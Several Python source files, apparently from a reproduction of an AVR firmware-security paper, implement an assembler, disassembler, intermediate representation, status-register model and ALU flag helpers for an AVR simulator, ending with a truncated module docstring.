    # When True the toolchain must keep the epilogue inline even under
    # -mcall-prologues (models GCC only using the shared blocks where
    # beneficial; also what makes write_mem_gadget exist in stock builds).
    force_inline_epilogue: bool = False

    def labels(self) -> List[str]:
        return [item.name for item in self.items if isinstance(item, Label)]

    def instructions(self) -> List[AsmInsn]:
        return [item for item in self.items if isinstance(item, AsmInsn)]


class DataKind(Enum):
    BYTES = "bytes"
    SPACE = "space"
    FUNCPTR_TABLE = "funcptr_table"  # array of 2-byte function word addresses


@dataclass
class DataDef:
    """One data-section object.

    ``segment`` selects where the object lives: ``"flash"`` objects are
    constants embedded in the image (read with ``lpm``) and are what the
    MAVR patcher can rewrite; ``"sram"`` objects are zero-initialized
    variables allocated in the data space (read/written with ``lds``/
    ``sts``) and occupy no image bytes.
    """

    name: str
    kind: DataKind
    payload: Union[bytes, int, List[str]]
    # BYTES -> bytes, SPACE -> size int, FUNCPTR_TABLE -> function names
    segment: str = "flash"

    def size_bytes(self) -> int:
        if self.kind is DataKind.BYTES:
            return len(self.payload)  # type: ignore[arg-type]
        if self.kind is DataKind.SPACE:
            return int(self.payload)  # type: ignore[arg-type]
        return 2 * len(self.payload)  # type: ignore[arg-type]


@dataclass
class Program:
    """A whole translation unit handed to the linker."""

    functions: List[FunctionDef] = field(default_factory=list)
    data: List[DataDef] = field(default_factory=list)
    entry: str = "main"

    def function(self, name: str) -> FunctionDef:
        for func in self.functions:
            if func.name == name:
                return func
        raise AsmError(f"no such function: {name}")

    def add_function(self, func: FunctionDef) -> None:
        if any(f.name == func.name for f in self.functions):
            raise AsmError(f"duplicate function: {func.name}")
        self.functions.append(func)

    def add_data(self, data: DataDef) -> None:
        if any(d.name == data.name for d in self.data):
            raise AsmError(f"duplicate data object: {data.name}")
        self.data.append(data)
