"""Disassembler: machine code -> human-readable AVR listings.

Produces listings in the style the paper uses for its gadget figures
(Fig. 4/5): byte address, instruction text, and resolved absolute targets
for control flow.
"""

from __future__ import annotations

from typing import List, Optional

from ..avr.decoder import disassemble_range
from ..avr.insn import Instruction, Mnemonic
from ..binfmt.image import FirmwareImage

_POINTER_TEXT = {
    Mnemonic.LD_X: ("ld", "X"),
    Mnemonic.LD_X_INC: ("ld", "X+"),
    Mnemonic.LD_X_DEC: ("ld", "-X"),
    Mnemonic.LD_Y_INC: ("ld", "Y+"),
    Mnemonic.LD_Y_DEC: ("ld", "-Y"),
    Mnemonic.LD_Z_INC: ("ld", "Z+"),
    Mnemonic.LD_Z_DEC: ("ld", "-Z"),
    Mnemonic.ST_X: ("st", "X"),
    Mnemonic.ST_X_INC: ("st", "X+"),
    Mnemonic.ST_X_DEC: ("st", "-X"),
    Mnemonic.ST_Y_INC: ("st", "Y+"),
    Mnemonic.ST_Y_DEC: ("st", "-Y"),
    Mnemonic.ST_Z_INC: ("st", "Z+"),
    Mnemonic.ST_Z_DEC: ("st", "-Z"),
}

_BRANCH_ALIASES = {
    (Mnemonic.BRBS, 1): "breq",
    (Mnemonic.BRBC, 1): "brne",
    (Mnemonic.BRBS, 0): "brcs",
    (Mnemonic.BRBC, 0): "brcc",
    (Mnemonic.BRBS, 2): "brmi",
    (Mnemonic.BRBC, 2): "brpl",
    (Mnemonic.BRBS, 4): "brlt",
    (Mnemonic.BRBC, 4): "brge",
}


def format_instruction(insn: Instruction, pc_bytes: Optional[int] = None) -> str:
    """Render one instruction as AVR assembly text.

    When ``pc_bytes`` is given, PC-relative targets are rendered as absolute
    byte addresses (``rjmp .+4 ; 0x1b28``-style).
    """
    m = insn.mnemonic

    if m in _POINTER_TEXT:
        op, pointer = _POINTER_TEXT[m]
        if op == "ld":
            return f"ld r{insn.rd}, {pointer}"
        return f"st {pointer}, r{insn.rr}"

    if m is Mnemonic.LDD_Y or m is Mnemonic.LDD_Z:
        pointer = "Y" if m is Mnemonic.LDD_Y else "Z"
        return f"ldd r{insn.rd}, {pointer}+{insn.q or 0}"
    if m is Mnemonic.STD_Y or m is Mnemonic.STD_Z:
        pointer = "Y" if m is Mnemonic.STD_Y else "Z"
        return f"std {pointer}+{insn.q or 0}, r{insn.rr}"

    if m in (Mnemonic.BRBS, Mnemonic.BRBC):
        alias = _BRANCH_ALIASES.get((m, insn.b))
        target = _relative_target(insn, pc_bytes)
        name = alias if alias else f"{m.value} {insn.b},"
        return f"{name} {target}"

    if m in (Mnemonic.RJMP, Mnemonic.RCALL):
        return f"{m.value} {_relative_target(insn, pc_bytes)}"

    if m in (Mnemonic.JMP, Mnemonic.CALL):
        return f"{m.value} 0x{insn.k * 2:x}"

    if m in (Mnemonic.LDS,):
        return f"lds r{insn.rd}, 0x{insn.k:04x}"
    if m is Mnemonic.STS:
        return f"sts 0x{insn.k:04x}, r{insn.rr}"

    if m is Mnemonic.LDI:
        return f"ldi r{insn.rd}, 0x{insn.k:02X}"
    if m in (Mnemonic.SUBI, Mnemonic.SBCI, Mnemonic.ANDI, Mnemonic.ORI, Mnemonic.CPI):
        return f"{m.value} r{insn.rd}, 0x{insn.k:02X}"

    if m is Mnemonic.IN:
        return f"in r{insn.rd}, 0x{insn.a:02x}"
    if m is Mnemonic.OUT:
        return f"out 0x{insn.a:02x}, r{insn.rr}"
    if m in (Mnemonic.SBI, Mnemonic.CBI, Mnemonic.SBIC, Mnemonic.SBIS):
        return f"{m.value} 0x{insn.a:02x}, {insn.b}"

    if m in (Mnemonic.BLD, Mnemonic.BST, Mnemonic.SBRC, Mnemonic.SBRS):
        return f"{m.value} r{insn.rd}, {insn.b}"
    if m is Mnemonic.BSET:
        return "sei" if insn.b == 7 else f"bset {insn.b}"
    if m is Mnemonic.BCLR:
        return "cli" if insn.b == 7 else f"bclr {insn.b}"

    if m is Mnemonic.PUSH:
        return f"push r{insn.rr}"
    if m is Mnemonic.POP:
        return f"pop r{insn.rd}"

    if m in (Mnemonic.ADIW, Mnemonic.SBIW):
        return f"{m.value} r{insn.rd}, 0x{insn.k:02X}"

    if m is Mnemonic.MOVW:
        return f"movw r{insn.rd}, r{insn.rr}"

    if m is Mnemonic.LPM_R0:
        return "lpm"
    if m is Mnemonic.LPM:
        return f"lpm r{insn.rd}, Z"
    if m is Mnemonic.LPM_INC:
        return f"lpm r{insn.rd}, Z+"

    if insn.rd is not None and insn.rr is not None:
        return f"{m.value} r{insn.rd}, r{insn.rr}"
    if insn.rd is not None:
        return f"{m.value} r{insn.rd}"
    return m.value


def _relative_target(insn: Instruction, pc_bytes: Optional[int]) -> str:
    if pc_bytes is None:
        return f".{insn.k * 2:+d}"
    target = pc_bytes + 2 + insn.k * 2
    return f"0x{target:x}"


def disassemble(code: bytes, start: int = 0, end: Optional[int] = None) -> List[str]:
    """Best-effort listing of ``code[start:end]``."""
    stop = len(code) if end is None else end
    lines = []
    for offset, insn in disassemble_range(code, start, stop):
        lines.append(f"{offset:6x}:  {format_instruction(insn, offset)}")
    return lines


def disassemble_image(image: FirmwareImage, symbol: Optional[str] = None) -> str:
    """Disassemble a whole image (or one function) with symbol headers."""
    parts: List[str] = []
    functions = image.symbols.functions()
    if symbol is not None:
        functions = [image.symbols.get(symbol)]
    for sym in functions:
        parts.append(f"\n{sym.address:08x} <{sym.name}>:")
        parts.extend(disassemble(image.code, sym.address, sym.end))
    return "\n".join(parts)
