"""Text assembler front-end: AVR-flavoured assembly source -> IR Program.

Grammar (line oriented, ``;`` or ``#`` start comments)::

    .text                         ; section switches
    .data
    .func NAME [saves=r2,r3,...] [inline]
        LABEL:                    ; local label
        mnemonic operands
    .endfunc
    .entry NAME                   ; program entry symbol (default main)

    ; in .data:
    NAME: .byte 1, 2, 0x41        ; flash constant bytes
    NAME: .space 64               ; SRAM zero-init variable
    NAME: .space 64 flash         ; flash gap
    NAME: .funcptr f1, f2, f3     ; flash function-pointer table

Operands understand registers (``r0``..``r31``), immediates (decimal,
``0x``-hex, ``-`` negatives), ``lo8(sym)``/``hi8(sym)`` (data addresses),
``lo8w(sym)``/``hi8w(sym)`` (code word addresses), pointer forms
(``X``, ``X+``, ``-X``, ``Y+q``, ``Z+q``) and branch aliases (``breq``,
``brne``, ``brcs``, ``brcc``, ``brge``, ``brlt``).
Targets of ``call``/``jmp``/``rcall``/``rjmp``/branches may be local labels
(defined inside the function) or global symbol names.
"""

from __future__ import annotations

import re
from typing import List, Optional, Tuple, Union

from ..avr.insn import Mnemonic
from ..errors import AsmSyntaxError
from .ir import (
    AsmInsn,
    DataDef,
    DataKind,
    FunctionDef,
    Label,
    LabelRef,
    Program,
    RefKind,
    SymbolRef,
)

_BRANCH_ALIASES = {
    "breq": (Mnemonic.BRBS, 1),
    "brne": (Mnemonic.BRBC, 1),
    "brcs": (Mnemonic.BRBS, 0),
    "brcc": (Mnemonic.BRBC, 0),
    "brmi": (Mnemonic.BRBS, 2),
    "brpl": (Mnemonic.BRBC, 2),
    "brlt": (Mnemonic.BRBS, 4),
    "brge": (Mnemonic.BRBC, 4),
}

_SIMPLE = {
    "nop": Mnemonic.NOP, "ret": Mnemonic.RET, "reti": Mnemonic.RETI,
    "ijmp": Mnemonic.IJMP, "icall": Mnemonic.ICALL, "wdr": Mnemonic.WDR,
    "sleep": Mnemonic.SLEEP, "break": Mnemonic.BREAK,
}

_RR_OPS = {
    "mov": Mnemonic.MOV, "add": Mnemonic.ADD, "adc": Mnemonic.ADC,
    "sub": Mnemonic.SUB, "sbc": Mnemonic.SBC, "and": Mnemonic.AND,
    "or": Mnemonic.OR, "eor": Mnemonic.EOR, "cp": Mnemonic.CP,
    "cpc": Mnemonic.CPC, "cpse": Mnemonic.CPSE, "movw": Mnemonic.MOVW,
    "mul": Mnemonic.MUL, "muls": Mnemonic.MULS, "mulsu": Mnemonic.MULSU,
}

_IMM_OPS = {
    "ldi": Mnemonic.LDI, "subi": Mnemonic.SUBI, "sbci": Mnemonic.SBCI,
    "andi": Mnemonic.ANDI, "ori": Mnemonic.ORI, "cpi": Mnemonic.CPI,
}

_ONE_OPS = {
    "com": Mnemonic.COM, "neg": Mnemonic.NEG, "inc": Mnemonic.INC,
    "dec": Mnemonic.DEC, "swap": Mnemonic.SWAP, "lsr": Mnemonic.LSR,
    "asr": Mnemonic.ASR, "ror": Mnemonic.ROR, "push": Mnemonic.PUSH,
    "pop": Mnemonic.POP,
}

_LD_FORMS = {
    "x": Mnemonic.LD_X, "x+": Mnemonic.LD_X_INC, "-x": Mnemonic.LD_X_DEC,
    "y+": Mnemonic.LD_Y_INC, "-y": Mnemonic.LD_Y_DEC,
    "z+": Mnemonic.LD_Z_INC, "-z": Mnemonic.LD_Z_DEC,
}
_ST_FORMS = {
    "x": Mnemonic.ST_X, "x+": Mnemonic.ST_X_INC, "-x": Mnemonic.ST_X_DEC,
    "y+": Mnemonic.ST_Y_INC, "-y": Mnemonic.ST_Y_DEC,
    "z+": Mnemonic.ST_Z_INC, "-z": Mnemonic.ST_Z_DEC,
}

_REG_RE = re.compile(r"^r(\d{1,2})$", re.IGNORECASE)
_REF_RE = re.compile(r"^(lo8w|hi8w|lo8|hi8)\(([A-Za-z_.][\w.]*)([+-]\d+)?\)$")
_DISP_RE = re.compile(r"^([yz])\+(\d+)$", re.IGNORECASE)


def parse(source: str) -> Program:
    """Parse assembly source text into a :class:`Program`."""
    return _Parser(source).parse()


class _Parser:
    def __init__(self, source: str) -> None:
        self.lines = source.splitlines()
        self.program = Program()
        self.section = ".text"
        self.current: Optional[FunctionDef] = None
        self.line_number = 0

    def error(self, message: str) -> AsmSyntaxError:
        return AsmSyntaxError(message, self.line_number)

    def parse(self) -> Program:
        for index, raw in enumerate(self.lines, start=1):
            self.line_number = index
            line = _strip_comment(raw).strip()
            if not line:
                continue
            if line.startswith("."):
                self._directive(line)
            else:
                self._statement(line)
        if self.current is not None:
            raise self.error(f"missing .endfunc for {self.current.name}")
        return self.program

    # -- directives ------------------------------------------------------

    def _directive(self, line: str) -> None:
        parts = line.split(None, 1)
        name = parts[0].lower()
        rest = parts[1].strip() if len(parts) > 1 else ""
        if name == ".text" or name == ".data":
            if self.current is not None:
                raise self.error("section switch inside .func")
            self.section = name
        elif name == ".entry":
            if not rest:
                raise self.error(".entry needs a symbol name")
            self.program.entry = rest
        elif name == ".func":
            self._begin_func(rest)
        elif name == ".endfunc":
            if self.current is None:
                raise self.error(".endfunc without .func")
            self.program.add_function(self.current)
            self.current = None
        else:
            raise self.error(f"unknown directive {name}")

    def _begin_func(self, rest: str) -> None:
        if self.current is not None:
            raise self.error("nested .func")
        if self.section != ".text":
            raise self.error(".func outside .text")
        tokens = rest.split()
        if not tokens:
            raise self.error(".func needs a name")
        name = tokens[0]
        saves: List[int] = []
        inline = False
        for token in tokens[1:]:
            if token.startswith("saves="):
                for reg_text in token[len("saves="):].split(","):
                    match = _REG_RE.match(reg_text.strip())
                    if not match:
                        raise self.error(f"bad register in saves=: {reg_text}")
                    saves.append(int(match.group(1)))
            elif token == "inline":
                inline = True
            else:
                raise self.error(f"unknown .func attribute: {token}")
        self.current = FunctionDef(
            name, [], save_regs=tuple(saves), force_inline_epilogue=inline
        )

    # -- statements ------------------------------------------------------

    def _statement(self, line: str) -> None:
        if self.section == ".data":
            self._data_statement(line)
            return
        if self.current is None:
            raise self.error("instruction outside .func")
        label_match = re.match(r"^([A-Za-z_.][\w.]*):(.*)$", line)
        if label_match:
            self.current.items.append(Label(label_match.group(1)))
            remainder = label_match.group(2).strip()
            if remainder:
                self._statement(remainder)
            return
        self.current.items.append(self._instruction(line))

    def _data_statement(self, line: str) -> None:
        match = re.match(r"^([A-Za-z_][\w.]*):\s*(\.\w+)\s*(.*)$", line)
        if not match:
            raise self.error("data statement must be 'name: .directive args'")
        name, directive, args = match.group(1), match.group(2).lower(), match.group(3)
        if directive == ".byte":
            payload = bytes(self._int(token.strip()) & 0xFF for token in args.split(","))
            self.program.add_data(DataDef(name, DataKind.BYTES, payload, segment="flash"))
        elif directive == ".space":
            tokens = args.split()
            size = self._int(tokens[0])
            segment = tokens[1] if len(tokens) > 1 else "sram"
            if segment not in ("sram", "flash"):
                raise self.error(f"bad segment {segment}")
            self.program.add_data(DataDef(name, DataKind.SPACE, size, segment=segment))
        elif directive == ".funcptr":
            names = [token.strip() for token in args.split(",") if token.strip()]
            if not names:
                raise self.error(".funcptr needs at least one function")
            self.program.add_data(
                DataDef(name, DataKind.FUNCPTR_TABLE, names, segment="flash")
            )
        else:
            raise self.error(f"unknown data directive {directive}")

    # -- instruction parsing ----------------------------------------------

    def _instruction(self, line: str) -> AsmInsn:
        parts = line.split(None, 1)
        mnem = parts[0].lower()
        operands = [op.strip() for op in parts[1].split(",")] if len(parts) > 1 else []

        if mnem == "clr":
            self._expect(operands, 1, mnem)
            reg = self._reg(operands[0])
            return AsmInsn(Mnemonic.EOR, rd=reg, rr=reg)
        if mnem == "tst":
            self._expect(operands, 1, mnem)
            reg = self._reg(operands[0])
            return AsmInsn(Mnemonic.AND, rd=reg, rr=reg)
        if mnem == "lsl":
            self._expect(operands, 1, mnem)
            reg = self._reg(operands[0])
            return AsmInsn(Mnemonic.ADD, rd=reg, rr=reg)
        if mnem == "rol":
            self._expect(operands, 1, mnem)
            reg = self._reg(operands[0])
            return AsmInsn(Mnemonic.ADC, rd=reg, rr=reg)
        if mnem == "ser":
            self._expect(operands, 1, mnem)
            return AsmInsn(Mnemonic.LDI, rd=self._reg(operands[0]), k=0xFF)
        if mnem == "sei":
            return AsmInsn(Mnemonic.BSET, b=7)
        if mnem == "cli":
            return AsmInsn(Mnemonic.BCLR, b=7)
        if mnem in _SIMPLE:
            self._expect(operands, 0, mnem)
            return AsmInsn(_SIMPLE[mnem])
        if mnem in _RR_OPS:
            self._expect(operands, 2, mnem)
            return AsmInsn(_RR_OPS[mnem], rd=self._reg(operands[0]), rr=self._reg(operands[1]))
        if mnem in _IMM_OPS:
            self._expect(operands, 2, mnem)
            return AsmInsn(_IMM_OPS[mnem], rd=self._reg(operands[0]), k=self._value(operands[1]))
        if mnem in _ONE_OPS:
            self._expect(operands, 1, mnem)
            reg = self._reg(operands[0])
            if mnem == "push":
                return AsmInsn(Mnemonic.PUSH, rr=reg)
            return AsmInsn(_ONE_OPS[mnem], rd=reg)
        if mnem in ("adiw", "sbiw"):
            self._expect(operands, 2, mnem)
            return AsmInsn(
                Mnemonic.ADIW if mnem == "adiw" else Mnemonic.SBIW,
                rd=self._reg(operands[0]), k=self._int(operands[1]),
            )
        if mnem == "in":
            self._expect(operands, 2, mnem)
            return AsmInsn(Mnemonic.IN, rd=self._reg(operands[0]), a=self._int(operands[1]))
        if mnem == "out":
            self._expect(operands, 2, mnem)
            return AsmInsn(Mnemonic.OUT, a=self._int(operands[0]), rr=self._reg(operands[1]))
        if mnem in ("sbi", "cbi", "sbic", "sbis"):
            self._expect(operands, 2, mnem)
            table = {"sbi": Mnemonic.SBI, "cbi": Mnemonic.CBI,
                     "sbic": Mnemonic.SBIC, "sbis": Mnemonic.SBIS}
            return AsmInsn(table[mnem], a=self._int(operands[0]), b=self._int(operands[1]))
        if mnem in ("bld", "bst", "sbrc", "sbrs"):
            self._expect(operands, 2, mnem)
            table = {"bld": Mnemonic.BLD, "bst": Mnemonic.BST,
                     "sbrc": Mnemonic.SBRC, "sbrs": Mnemonic.SBRS}
            return AsmInsn(table[mnem], rd=self._reg(operands[0]), b=self._int(operands[1]))
        if mnem == "lds":
            self._expect(operands, 2, mnem)
            return AsmInsn(Mnemonic.LDS, rd=self._reg(operands[0]), k=self._value(operands[1]))
        if mnem == "sts":
            self._expect(operands, 2, mnem)
            return AsmInsn(Mnemonic.STS, k=self._value(operands[0]), rr=self._reg(operands[1]))
        if mnem == "ld":
            self._expect(operands, 2, mnem)
            return self._pointer_op(operands[0], operands[1], load=True)
        if mnem == "st":
            self._expect(operands, 2, mnem)
            return self._pointer_op(operands[1], operands[0], load=False)
        if mnem == "ldd":
            self._expect(operands, 2, mnem)
            pointer, disp = self._displacement(operands[1])
            mn = Mnemonic.LDD_Y if pointer == "y" else Mnemonic.LDD_Z
            return AsmInsn(mn, rd=self._reg(operands[0]), q=disp)
        if mnem == "std":
            self._expect(operands, 2, mnem)
            pointer, disp = self._displacement(operands[0])
            mn = Mnemonic.STD_Y if pointer == "y" else Mnemonic.STD_Z
            return AsmInsn(mn, rr=self._reg(operands[1]), q=disp)
        if mnem == "lpm":
            if not operands:
                return AsmInsn(Mnemonic.LPM_R0)
            self._expect(operands, 2, mnem)
            if operands[1].lower() == "z+":
                return AsmInsn(Mnemonic.LPM_INC, rd=self._reg(operands[0]))
            return AsmInsn(Mnemonic.LPM, rd=self._reg(operands[0]))
        if mnem in ("call", "jmp", "rcall", "rjmp"):
            self._expect(operands, 1, mnem)
            table = {"call": Mnemonic.CALL, "jmp": Mnemonic.JMP,
                     "rcall": Mnemonic.RCALL, "rjmp": Mnemonic.RJMP}
            return AsmInsn(table[mnem], k=self._target(operands[0]))
        if mnem in _BRANCH_ALIASES:
            self._expect(operands, 1, mnem)
            base, bit = _BRANCH_ALIASES[mnem]
            return AsmInsn(base, b=bit, k=self._target(operands[0]))
        raise self.error(f"unknown mnemonic: {mnem}")

    # -- operand helpers ---------------------------------------------------

    def _expect(self, operands: List[str], count: int, mnem: str) -> None:
        if len(operands) != count:
            raise self.error(f"{mnem} expects {count} operand(s), got {len(operands)}")

    def _reg(self, text: str) -> int:
        match = _REG_RE.match(text)
        if not match:
            raise self.error(f"expected register, got {text!r}")
        reg = int(match.group(1))
        if reg > 31:
            raise self.error(f"register out of range: {text}")
        return reg

    def _int(self, text: str) -> int:
        try:
            return int(text, 0)
        except ValueError:
            raise self.error(f"expected integer, got {text!r}") from None

    def _value(self, text: str) -> Union[int, SymbolRef]:
        """Immediate: integer, lo8()/hi8() reference, or bare data symbol."""
        ref = _REF_RE.match(text)
        if ref:
            kind = {"lo8": RefKind.LO8, "hi8": RefKind.HI8,
                    "lo8w": RefKind.LO8_WORD, "hi8w": RefKind.HI8_WORD}[ref.group(1)]
            addend = int(ref.group(3)) if ref.group(3) else 0
            return SymbolRef(ref.group(2), kind, addend)
        try:
            return int(text, 0)
        except ValueError:
            pass
        plain = re.match(r"^([A-Za-z_][\w.]*)([+-]\d+)?$", text)
        if plain:
            addend = int(plain.group(2)) if plain.group(2) else 0
            return SymbolRef(plain.group(1), RefKind.WORD, addend)
        raise self.error(f"bad immediate/operand: {text!r}")

    def _target(self, text: str) -> Union[int, SymbolRef, LabelRef]:
        """Control-flow target: local label, global symbol, or address."""
        ref = _REF_RE.match(text)
        if ref:
            raise self.error("lo8/hi8 not valid as a jump target")
        try:
            return int(text, 0)
        except ValueError:
            pass
        if not re.match(r"^[A-Za-z_.][\w.]*$", text):
            raise self.error(f"bad target: {text!r}")
        if self.current is not None and text in _defined_labels(self.current):
            return LabelRef(text)
        # forward local label references look like globals here; the linker
        # cannot know, so we scan the raw function text instead:
        return _LateTarget(text)  # resolved at .endfunc time

    # -- displacement forms -------------------------------------------------

    def _pointer_op(self, reg_text: str, pointer_text: str, load: bool) -> AsmInsn:
        pointer = pointer_text.lower()
        disp = _DISP_RE.match(pointer)
        if disp:
            mn = (Mnemonic.LDD_Y if disp.group(1) == "y" else Mnemonic.LDD_Z) if load else (
                Mnemonic.STD_Y if disp.group(1) == "y" else Mnemonic.STD_Z)
            q = int(disp.group(2))
            if load:
                return AsmInsn(mn, rd=self._reg(reg_text), q=q)
            return AsmInsn(mn, rr=self._reg(reg_text), q=q)
        if pointer == "y":
            mn = Mnemonic.LDD_Y if load else Mnemonic.STD_Y
            if load:
                return AsmInsn(mn, rd=self._reg(reg_text), q=0)
            return AsmInsn(mn, rr=self._reg(reg_text), q=0)
        if pointer == "z":
            mn = Mnemonic.LDD_Z if load else Mnemonic.STD_Z
            if load:
                return AsmInsn(mn, rd=self._reg(reg_text), q=0)
            return AsmInsn(mn, rr=self._reg(reg_text), q=0)
        forms = _LD_FORMS if load else _ST_FORMS
        if pointer not in forms:
            raise self.error(f"bad pointer operand: {pointer_text!r}")
        if load:
            return AsmInsn(forms[pointer], rd=self._reg(reg_text))
        return AsmInsn(forms[pointer], rr=self._reg(reg_text))

    def _displacement(self, text: str) -> Tuple[str, int]:
        lowered = text.lower()
        match = _DISP_RE.match(lowered)
        if match:
            return match.group(1), int(match.group(2))
        if lowered in ("y", "z"):
            return lowered, 0
        raise self.error(f"bad displacement operand: {text!r}")


class _LateTarget(SymbolRef):
    """A control-flow target that may turn out to be a forward local label."""

    def __new__(cls, name: str):  # SymbolRef is frozen; construct via parent
        return super().__new__(cls)

    def __init__(self, name: str) -> None:
        object.__setattr__(self, "name", name)
        object.__setattr__(self, "kind", RefKind.WORD)
        object.__setattr__(self, "addend", 0)


def _defined_labels(func: FunctionDef) -> List[str]:
    return func.labels()


def _strip_comment(line: str) -> str:
    for marker in (";", "#"):
        index = line.find(marker)
        if index >= 0:
            line = line[:index]
    return line


def resolve_late_targets(program: Program) -> None:
    """Convert :class:`_LateTarget` refs to local labels where defined.

    Called by :func:`parse_and_link`; split out for testability.
    """
    for func in program.functions:
        labels = set(func.labels())
        for index, item in enumerate(func.items):
            if isinstance(item, AsmInsn) and isinstance(item.k, _LateTarget):
                if item.k.name in labels:
                    new_k: Union[LabelRef, SymbolRef] = LabelRef(item.k.name)
                else:
                    new_k = SymbolRef(item.k.name, RefKind.WORD)
                func.items[index] = AsmInsn(
                    item.mnemonic, rd=item.rd, rr=item.rr, k=new_k,
                    q=item.q, a=item.a, b=item.b,
                )


def parse_program(source: str) -> Program:
    """Parse source and finalize forward-label resolution."""
    program = parse(source)
    resolve_late_targets(program)
    return program
