"""AVR status register (SREG) model.

SREG is a single byte of eight independent flags.  The simulator keeps them
as booleans for fast access and packs/unpacks the byte only when software
reads or writes I/O address 0x3F.

Bit layout (datasheet order, bit 7 .. bit 0)::

    I  T  H  S  V  N  Z  C
"""

from __future__ import annotations

from dataclasses import dataclass

# Bit positions within the packed SREG byte.
BIT_C = 0  # carry
BIT_Z = 1  # zero
BIT_N = 2  # negative
BIT_V = 3  # two's complement overflow
BIT_S = 4  # sign (N xor V)
BIT_H = 5  # half carry
BIT_T = 6  # bit copy storage
BIT_I = 7  # global interrupt enable

FLAG_NAMES = ("C", "Z", "N", "V", "S", "H", "T", "I")


@dataclass
class StatusRegister:
    """Mutable SREG with named flag attributes."""

    c: bool = False
    z: bool = False
    n: bool = False
    v: bool = False
    s: bool = False
    h: bool = False
    t: bool = False
    i: bool = False

    @property
    def byte(self) -> int:
        """Pack the flags into the architectural byte value."""
        return (
            (self.c << BIT_C)
            | (self.z << BIT_Z)
            | (self.n << BIT_N)
            | (self.v << BIT_V)
            | (self.s << BIT_S)
            | (self.h << BIT_H)
            | (self.t << BIT_T)
            | (self.i << BIT_I)
        )

    @byte.setter
    def byte(self, value: int) -> None:
        value &= 0xFF
        self.c = bool(value & (1 << BIT_C))
        self.z = bool(value & (1 << BIT_Z))
        self.n = bool(value & (1 << BIT_N))
        self.v = bool(value & (1 << BIT_V))
        self.s = bool(value & (1 << BIT_S))
        self.h = bool(value & (1 << BIT_H))
        self.t = bool(value & (1 << BIT_T))
        self.i = bool(value & (1 << BIT_I))

    def get_bit(self, bit: int) -> bool:
        """Read a flag by SREG bit index (0=C .. 7=I)."""
        return bool(self.byte & (1 << bit))

    def set_bit(self, bit: int, value: bool) -> None:
        """Write a flag by SREG bit index (0=C .. 7=I)."""
        byte = self.byte
        if value:
            byte |= 1 << bit
        else:
            byte &= ~(1 << bit)
        self.byte = byte

    def update_sign(self) -> None:
        """Recompute S = N xor V after N/V changed."""
        self.s = self.n != self.v

    def copy(self) -> "StatusRegister":
        clone = StatusRegister()
        clone.byte = self.byte
        return clone

    def __str__(self) -> str:  # pragma: no cover - debugging aid
        bits = [
            name if self.get_bit(bit) else name.lower()
            for bit, name in enumerate(FLAG_NAMES)
        ]
        return "".join(reversed(bits))
