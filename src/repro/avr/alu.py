"""ALU flag computation for the AVR core.

Each helper performs an 8-bit operation and updates the relevant SREG flags
exactly as the architecture manual specifies (carry/half-carry from bit
positions, two's-complement overflow from operand sign patterns).
"""

from __future__ import annotations

from .sreg import StatusRegister


def _set_nzs(sreg: StatusRegister, result: int) -> None:
    sreg.n = bool(result & 0x80)
    sreg.z = result == 0
    sreg.update_sign()


def add(sreg: StatusRegister, rd: int, rr: int, carry_in: bool = False) -> int:
    """ADD/ADC: returns the 8-bit result and sets C,Z,N,V,S,H."""
    c = int(carry_in)
    full = rd + rr + c
    result = full & 0xFF
    sreg.h = bool(((rd & 0x0F) + (rr & 0x0F) + c) & 0x10)
    sreg.c = full > 0xFF
    sreg.v = bool(~(rd ^ rr) & (rd ^ result) & 0x80)
    _set_nzs(sreg, result)
    return result


def sub(
    sreg: StatusRegister,
    rd: int,
    rr: int,
    carry_in: bool = False,
    keep_z: bool = False,
) -> int:
    """SUB/SBC/CP/CPC: returns the 8-bit result and sets C,Z,N,V,S,H.

    ``keep_z`` implements the SBC/CPC rule where Z is only cleared, never
    set, so multi-byte compares work.
    """
    c = int(carry_in)
    full = rd - rr - c
    result = full & 0xFF
    sreg.h = bool(((rd & 0x0F) - (rr & 0x0F) - c) & 0x10)
    sreg.c = full < 0
    sreg.v = bool((rd ^ rr) & (rd ^ result) & 0x80)
    sreg.n = bool(result & 0x80)
    if keep_z:
        if result != 0:
            sreg.z = False
    else:
        sreg.z = result == 0
    sreg.update_sign()
    return result


def logic(sreg: StatusRegister, result: int) -> int:
    """AND/OR/EOR/COM-style flag update (V cleared)."""
    result &= 0xFF
    sreg.v = False
    _set_nzs(sreg, result)
    return result


def com(sreg: StatusRegister, rd: int) -> int:
    """One's complement: C set, V cleared."""
    result = (~rd) & 0xFF
    sreg.c = True
    sreg.v = False
    _set_nzs(sreg, result)
    return result


def neg(sreg: StatusRegister, rd: int) -> int:
    """Two's complement negate."""
    result = (-rd) & 0xFF
    sreg.h = bool((result | rd) & 0x08)
    sreg.c = result != 0
    sreg.v = result == 0x80
    _set_nzs(sreg, result)
    return result


def inc(sreg: StatusRegister, rd: int) -> int:
    result = (rd + 1) & 0xFF
    sreg.v = result == 0x80
    _set_nzs(sreg, result)
    return result


def dec(sreg: StatusRegister, rd: int) -> int:
    result = (rd - 1) & 0xFF
    sreg.v = result == 0x7F
    _set_nzs(sreg, result)
    return result


def lsr(sreg: StatusRegister, rd: int) -> int:
    result = rd >> 1
    sreg.c = bool(rd & 1)
    sreg.n = False
    sreg.z = result == 0
    sreg.v = sreg.n != sreg.c
    sreg.update_sign()
    return result


def asr(sreg: StatusRegister, rd: int) -> int:
    result = (rd >> 1) | (rd & 0x80)
    sreg.c = bool(rd & 1)
    sreg.n = bool(result & 0x80)
    sreg.z = result == 0
    sreg.v = sreg.n != sreg.c
    sreg.update_sign()
    return result


def ror(sreg: StatusRegister, rd: int) -> int:
    carry_in = sreg.c
    result = (rd >> 1) | (0x80 if carry_in else 0)
    sreg.c = bool(rd & 1)
    sreg.n = bool(result & 0x80)
    sreg.z = result == 0
    sreg.v = sreg.n != sreg.c
    sreg.update_sign()
    return result


def adiw(sreg: StatusRegister, pair: int, k: int) -> int:
    """16-bit add-immediate-to-word flags."""
    full = pair + k
    result = full & 0xFFFF
    sreg.c = full > 0xFFFF
    sreg.z = result == 0
    sreg.n = bool(result & 0x8000)
    sreg.v = bool(~pair & result & 0x8000)
    sreg.update_sign()
    return result


def sbiw(sreg: StatusRegister, pair: int, k: int) -> int:
    """16-bit subtract-immediate-from-word flags."""
    full = pair - k
    result = full & 0xFFFF
    sreg.c = full < 0
    sreg.z = result == 0
    sreg.n = bool(result & 0x8000)
    sreg.v = bool(pair & ~result & 0x8000)
    sreg.update_sign()
    return result
