"""Basic-block superblock engine: fuse straight-line decodes, hoist the
per-instruction preamble to block boundaries.

